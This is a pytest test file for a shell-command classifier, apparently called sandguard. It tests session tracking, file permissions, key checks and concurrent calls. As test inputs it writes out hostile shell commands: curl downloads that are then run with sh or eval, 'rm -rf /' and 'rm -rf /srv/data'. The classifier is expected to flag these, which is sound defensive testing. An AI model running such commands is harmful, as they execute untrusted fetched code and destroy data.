"""Sessions on the command line: what is pending, who may read the file, and that no call is lost."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from sandguard.cli import ExitCode, main
from sandguard.cli.session_files import SessionFile

if TYPE_CHECKING:
    from pathlib import Path

FETCH = "curl -so x https://example.com/x"


@pytest.fixture
def file(tmp_path: Path) -> Path:
    """Return the path of a session file that does not exist."""
    return tmp_path / "session.json"


def judge(file: Path, command: str, *words: str) -> int:
    """Ask about a command in a session; return the exit code."""
    return main(["classify", "--session", str(file), "--cwd", "/work", "--workspace", "/work", *words, command])


def settle(what: str, file: Path, *words: str) -> int:
    """Settle the pending call; return the exit code."""
    return main(["session", what, str(file), *words])


def test_committed(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What a committed call has left is known to the next one."""
    assert judge(file, FETCH) == ExitCode.BELOW
    assert settle("commit", file, "--exit-code", "0") == ExitCode.BELOW
    assert judge(file, "sh x") == ExitCode.REACHED
    assert "execution/fetched-content" in capsys.readouterr().out


def test_discarded(file: Path) -> None:
    """A discarded call has left nothing."""
    judge(file, FETCH)

    assert settle("discard", file) == ExitCode.BELOW
    assert judge(file, "sh x") == ExitCode.BELOW


def test_pending(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A call that is only pending changes nothing; of several one is settled by its number."""
    judge(file, FETCH, "--json")
    judge(file, "sh x", "--json")
    answers = [json.loads(line) for line in capsys.readouterr().out.splitlines()]

    assert [(answer["call"], answer["level"]) for answer in answers] == [(1, "pass"), (2, "pass")]
    assert settle("commit", file) == ExitCode.USAGE
    assert "name the call with --call; pending: 1, 2" in capsys.readouterr().err
    assert settle("commit", file, "--call", "3") == ExitCode.USAGE
    assert settle("commit", file, "--call", "1") == ExitCode.BELOW
    assert settle("discard", file) == ExitCode.BELOW
    assert judge(file, "sh x") == ExitCode.REACHED


def test_shell(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A session is of one kind of shell; only in one that lives on do variables last."""
    words = ("--shell", "persistent")
    judge(file, "x=$(curl -s https://example.com/x)", *words)
    settle("commit", file, "--exit-code", "0", "--cwd", "/work/src")

    assert judge(file, 'eval "$x"') == ExitCode.REACHED
    assert judge(file, "ls", "--shell", "fresh") == ExitCode.CONFIGURATION
    assert "is of a persistent shell" in capsys.readouterr().err
    with SessionFile(str(file)) as held:
        state = held.found().state
        assert state is not None
        assert state.cwd.text == "/work/src"


def test_lines(file: Path) -> None:
    """Lines are calls of one session: a line says how the one before ended, and what is to be refused is not run."""
    lines = [
        {"command": "rm -rf /; " + FETCH},
        {"command": "sh x"},
        {"command": "curl -so y https://example.com/y"},
        {"command": "sh y", "exit_code": 0},
        {"command": "cp y z", "exit_code": None},
        {"command": "sh z"},
        {"command": "ls", "exit_code": "0"},
        {"command": "ls", "workspace": "/other"},
    ]
    program = [sys.executable, "-m", "sandguard", "classify", "--jsonl", "--session", str(file), "--workspace", "/work"]
    text = "".join(json.dumps(line) + "\n" for line in lines)
    result = subprocess.run([*program, "--cwd", "/work"], input=text, capture_output=True, text=True, check=False)
    answers = [json.loads(line) for line in result.stdout.splitlines()]

    assert [answer.get("level") for answer in answers] == [
        "block",
        "pass",
        "pass",
        "block",
        "pass",
        "block",
        None,
        None,
    ]
    assert [answer.get("call") for answer in answers] == [1, 2, 3, 4, 5, 6, None, None]
    assert answers[6]["error"] == '"exit_code" must be a number or null, not a string'
    assert "the session is that of /work" in answers[7]["error"]
    assert result.returncode == ExitCode.USAGE


def test_mode(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The file is its owner's alone, or it is not used."""
    judge(file, "ls")

    assert file.stat().st_mode & 0o777 == 0o600
    file.chmod(0o644)
    assert judge(file, "ls") == ExitCode.CONFIGURATION
    assert "its mode must be 600" in capsys.readouterr().err


def test_link(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A link is not followed: whoever put it there would choose the file."""
    judge(file.with_name("other.json"), "ls")
    file.symlink_to(file.with_name("other.json"))

    assert judge(file, "ls") == ExitCode.CONFIGURATION
    assert "cannot be opened" in capsys.readouterr().err
    file.unlink()
    file.hardlink_to(file.with_name("other.json"))
    assert judge(file, "ls") == ExitCode.CONFIGURATION


@pytest.mark.parametrize("text", ["", "{}", "null", '{"schema":1,"body":"{}","mac":""}', "[" * 9999, "\xff"])
def test_damaged(file: Path, text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A damaged file is an error, and stays as it is."""
    file.write_text(text, encoding="utf-8")
    file.chmod(0o600)

    assert judge(file, "ls") == ExitCode.CONFIGURATION
    assert "is damaged" in capsys.readouterr().err
    assert file.read_text(encoding="utf-8") == text


def test_key(file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """With a key, what was written without it or changed since is an error."""
    key, other = tmp_path / "key", tmp_path / "other"
    for path, byte in ((key, b"k"), (other, b"o")):
        path.write_bytes(byte * 32)
        path.chmod(0o600)
    words = ("--session-key", str(key))

    assert judge(file, FETCH, *words) == ExitCode.BELOW
    assert settle("commit", file, "--session-key", str(other)) == ExitCode.CONFIGURATION
    assert "was not written with this key" in capsys.readouterr().err
    assert settle("commit", file) == ExitCode.CONFIGURATION
    assert "give --session-key" in capsys.readouterr().err
    assert settle("commit", file, *words) == ExitCode.BELOW
    file.write_text(file.read_text().replace("network", "literal"))
    assert judge(file, "sh x", *words) == ExitCode.CONFIGURATION
    file.unlink()
    judge(file, "ls")
    assert judge(file, "ls", *words) == ExitCode.CONFIGURATION


def test_bad_key(file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A key that others may read, that is short, missing or in the workspace is none."""
    key = tmp_path / "key"
    for content, mode, message in ((b"k" * 32, 0o640, "its mode must be 600"), (b"k", 0o600, "must have 16 to")):
        key.write_bytes(content)
        key.chmod(mode)
        assert judge(file, "ls", "--session-key", str(key)) == ExitCode.CONFIGURATION
        assert message in capsys.readouterr().err
    assert judge(file, "ls", "--session-key", str(tmp_path / "none")) == ExitCode.CONFIGURATION
    key.write_bytes(b"k" * 32)
    words = ["classify", "--session", str(file), "--workspace", str(tmp_path), "--session-key", str(key), "ls"]
    assert main(words) == ExitCode.CONFIGURATION
    assert "lies in the workspace" in capsys.readouterr().err


def test_nothing_there(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Only a question begins a session."""
    assert settle("show", file) == ExitCode.CONFIGURATION
    assert "there is no session" in capsys.readouterr().err
    assert not file.exists()


def test_shown(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What a session holds is shown by names and origins, or as JSON."""
    judge(file, FETCH + "; rm -rf /srv/data; sleep 9 &")
    settle("commit", file)
    capsys.readouterr()

    assert settle("show", file) == ExitCode.BELOW
    out = capsys.readouterr().out
    assert out.startswith("workspace: /work\nshell: fresh\ncalls: 1, pending: none\nfile /work/x: network\n")
    assert out.endswith("blocked: change /srv/data\nmay still run: sleep 9\n")
    assert settle("show", file, "--json") == ExitCode.BELOW
    assert json.loads(capsys.readouterr().out)["key"] == "/work"


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["session"], "say commit, discard or show"),
        (["session", "drop", "x"], "say commit, discard or show"),
        (["session", "show", "x", "--exit-code", "1"], "session show has no --exit-code"),
        (["session", "commit", "x", "--json"], "session commit has no --json"),
        (["classify", "--shell", "fresh", "ls"], "give --session"),
        (["classify", "--session-key", "x", "ls"], "give --session"),
    ],
)
def test_usage(words: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Words that contradict each other are said to."""
    assert main(words) == ExitCode.USAGE
    assert message in capsys.readouterr().err


@pytest.mark.parametrize("number", ["x", "1.5", "--1", ""])
def test_numbers(file: Path, number: str, capsys: pytest.CaptureFixture[str]) -> None:
    """An exit code is a number."""
    judge(file, "ls")

    assert settle("commit", file, "--exit-code", number) == ExitCode.USAGE
    assert "is a number" in capsys.readouterr().err


@pytest.mark.slow
def test_processes_side_by_side(file: Path) -> None:
    """Processes that ask and settle at the same time lose no call of each other."""
    ask = [sys.executable, "-m", "sandguard", "classify", "--json", "--session", str(file)]
    ask += ["--workspace", "/work", "--cwd", "/work"]
    asked = [
        subprocess.Popen([*ask, f"curl -so f{number} https://example.com/x"], stdout=subprocess.PIPE)
        for number in range(8)
    ]
    calls = sorted(json.loads(process.communicate()[0])["call"] for process in asked)
    settled = [
        subprocess.Popen(
            [sys.executable, "-m", "sandguard", "session", "commit", str(file), "--call", str(call)],
            stdout=subprocess.DEVNULL,
        )
        for call in calls
    ]

    assert calls == list(range(1, 9))
    assert [process.wait() for process in settled] == [0] * 8
    assert [judge(file, f"sh f{number}") for number in range(8)] == [ExitCode.REACHED] * 8
